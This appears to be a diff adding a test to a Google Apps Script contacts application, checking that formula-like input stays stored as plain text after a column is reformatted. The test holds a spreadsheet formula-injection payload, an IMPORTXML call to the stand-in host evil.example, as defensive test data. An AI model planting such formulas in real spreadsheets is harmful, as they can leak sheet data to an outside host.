@@ -53,6 +53,38 @@ describe('records', () => {
     expect(journalRows(runtime)).toHaveLength(journalBefore);
   });
 
+  it('stores formula-like text as text even after a user reformatted the column', () => {
+    const { runtime, org } = setup();
+    runtime.withServices((services) => {
+      const sheet = (services.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp)
+        .getActiveSpreadsheet()
+        .getSheetByName('Contacts') as GoogleAppsScript.Spreadsheet.Sheet;
+      // "Format › Nombre › Automatique" on the whole tab.
+      sheet.getRange(1, 1, sheet.getMaxRows(), sheet.getMaxColumns()).setNumberFormat('General');
+    });
+    const payload = '=IMPORTXML("https://evil.example/x";"//a")';
+    const contact = callApi<RecordDto>(runtime, 'createRecord', 'contacts', {
+      nom: '+Dupont',
+      notes: payload,
+      telephone: '06 12 34 56 78',
+      organisationId: String(org.id),
+    });
+    const updated = callApi<RecordDto>(runtime, 'updateRecord', 'contacts', String(contact.id), {
+      poste: '@directeur',
+    });
+    expect(updated).toMatchObject({
+      nom: '+Dupont',
+      notes: payload,
+      telephone: '+33612345678',
+      poste: '@directeur',
+    });
+    const rows = readSheetValues(runtime, 'Contacts', false);
+    const header = rows[0] as string[];
+    const row = rows[1] as unknown[];
+    expect(row[header.indexOf('Notes')]).toBe(payload);
+    expect(row[header.indexOf('Téléphone')]).toBe('+33612345678');
+  });
+
   it('creates a contact normalised, refuses its duplicate, and journals each changed field', () => {
     const { runtime, org } = setup();
     const contact = callApi<RecordDto>(runtime, 'createRecord', 'contacts', {
